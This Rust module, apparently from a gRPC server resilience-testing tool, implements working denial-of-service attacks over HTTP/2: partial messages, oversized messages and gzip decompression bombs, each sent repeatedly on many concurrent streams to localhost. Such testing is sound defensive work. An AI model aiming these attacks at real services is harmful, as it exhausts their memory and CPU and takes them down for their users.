//! Attacks with large gRPC messages, which keep to HTTP/2's flow control.

use std::{io::Write, sync::Arc, time::Duration};

use flate2::{Compression, write::GzEncoder};
use futures_util::future::join_all;
use h2::client::SendRequest;
use http::Request;
use prost::bytes::Bytes;
use tokio::time::interval;

use super::Attack;

/// The time between two calls of a stream that the server ends.
const CALL_INTERVAL: Duration = Duration::from_millis(100);

/// A gRPC call that is made on many streams of one connection at once.
struct Calls {
    path: String,
    encoding: &'static str,
    body: Bytes,
    /// Whether the request is complete.
    ends: bool,
    streams: usize,
}

/// Calls that send all but the last byte of a message of this size.
#[must_use]
pub fn partial(path: &str, bytes: usize, streams: usize) -> Attack {
    let mut body = message(0, bytes, &vec![0; bytes]);
    body.pop();
    Calls {
        path: path.to_owned(),
        encoding: "identity",
        body: body.into(),
        ends: false,
        streams,
    }
    .attack()
}

/// Calls with a message of this size.
#[must_use]
pub fn large(path: &str, bytes: usize, streams: usize) -> Attack {
    Calls {
        path: path.to_owned(),
        encoding: "identity",
        body: message(0, bytes, &vec![0; bytes]).into(),
        ends: true,
        streams,
    }
    .attack()
}

/// Calls with a message that decompresses to this many bytes.
#[must_use]
pub fn gzip_bombs(path: &str, bytes: usize, streams: usize) -> Attack {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(&vec![0; bytes]).unwrap();
    let bomb = encoder.finish().unwrap();
    Calls {
        path: path.to_owned(),
        encoding: "gzip",
        body: message(1, bomb.len(), &bomb).into(),
        ends: true,
        streams,
    }
    .attack()
}

fn message(flags: u8, length: usize, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(length).unwrap().to_be_bytes();
    [&[flags], &length[..], content].concat()
}

impl Calls {
    fn attack(self) -> Attack {
        let calls = Arc::new(self);
        Attack::new(1, move |stream, established| {
            let calls = calls.clone();
            async move {
                let (sender, connection) = h2::client::handshake(stream).await?;
                established.set();
                let streams = join_all((0..calls.streams).map(|_| calls.repeat(sender.clone())));
                tokio::select! {
                    ended = connection => ended?,
                    _ = streams => {}
                }
                Ok(())
            }
        })
    }

    /// Calls again whenever the server ends the call.
    async fn repeat(&self, sender: SendRequest<Bytes>) -> Result<(), h2::Error> {
        let mut pace = interval(CALL_INTERVAL);
        loop {
            pace.tick().await;
            let mut sender = sender.clone().ready().await?;
            let (response, mut body) = sender.send_request(self.request(), false)?;
            body.send_data(self.body.clone(), self.ends)?;
            // The server may refuse the call at any time.
            let _ = response.await;
        }
    }

    fn request(&self) -> Request<()> {
        Request::post(format!("http://localhost{}", self.path))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .header("grpc-encoding", self.encoding)
            .body(())
            .unwrap()
    }
}
